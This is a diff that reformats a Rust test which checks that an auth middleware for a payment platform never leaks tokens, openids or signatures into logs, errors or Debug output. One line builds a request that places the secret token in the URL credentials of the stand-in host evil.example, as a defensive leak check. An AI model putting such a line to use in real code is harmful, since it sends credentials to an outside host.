@@ -130,7 +130,8 @@ impl Debug for FormatError<'_> {
 }
 
 fn request(world: &World) -> Request {
-    let mut request = Request::new(Method::POST, world.url(&format!("/v3/openid/{OPENID}?token={TOKEN}")));
+    let mut request =
+        Request::new(Method::POST, world.url(&format!("/v3/openid/{OPENID}?token={TOKEN}")));
     *request.body_mut() = Some(format!(r#"{{"name":"{NAME}"}}"#).into());
     request
 }
@@ -148,9 +149,11 @@ async fn no_log_error_or_debug_holds_a_secret() {
     let trusts = Trusts::These(&["public_key", "platform1"]);
     let world = World::build(trusts, |_| Answer::plain(500, TOKEN), verbose).await;
     for answer in answers() {
-        answer.headers.iter().filter(|(name, _)| *name == WECHATPAY_SIGNATURE).for_each(|(_, signature)| {
-            needles.plant("an answer's signature", signature);
-        });
+        answer.headers.iter().filter(|(name, _)| *name == WECHATPAY_SIGNATURE).for_each(
+            |(_, signature)| {
+                needles.plant("an answer's signature", signature);
+            },
+        );
         world.platform.answer(move |_| answer.clone());
         look_at_result(&needles, world.client.execute(request(&world)).await);
         let refresher = world.auth.certificate_refresher().unwrap();
@@ -159,7 +162,10 @@ async fn no_log_error_or_debug_holds_a_secret() {
         needles.look_at("CertificateRefresher", refresher);
         needles.look_at("AuthMiddleware", &world.auth);
     }
-    let foreign = Request::new(Method::GET, format!("https://{TOKEN}:{TOKEN}@evil.example/{OPENID}").parse().unwrap());
+    let foreign = Request::new(
+        Method::GET,
+        format!("https://{TOKEN}:{TOKEN}@evil.example/{OPENID}").parse().unwrap(),
+    );
     look_at_result(&needles, world.client.execute(foreign).await);
     for url in [format!("https://user:{TOKEN}@h"), format!("https://h/{TOKEN}"), TOKEN.into()] {
         let builder = AuthMiddleware::builder(settings(trusts).base_url(url));
@@ -179,7 +185,10 @@ async fn no_log_error_or_debug_holds_a_secret() {
     drop(platform);
     look_at_result(&needles, client.get(url).send().await);
     let (ours, transports) = (log.text().clone(), TRANSPORT_LOG.lock().unwrap().clone());
-    assert!(ours.contains("platform certificates not refreshed") && ours.contains("clock_skew"), "{ours}");
+    assert!(
+        ours.contains("platform certificates not refreshed") && ours.contains("clock_skew"),
+        "{ours}"
+    );
     assert!(transports.contains("starting new connection"), "{transports}");
     needles.look_in("the log", &ours);
     needles.look_in("the transport's log", &transports);
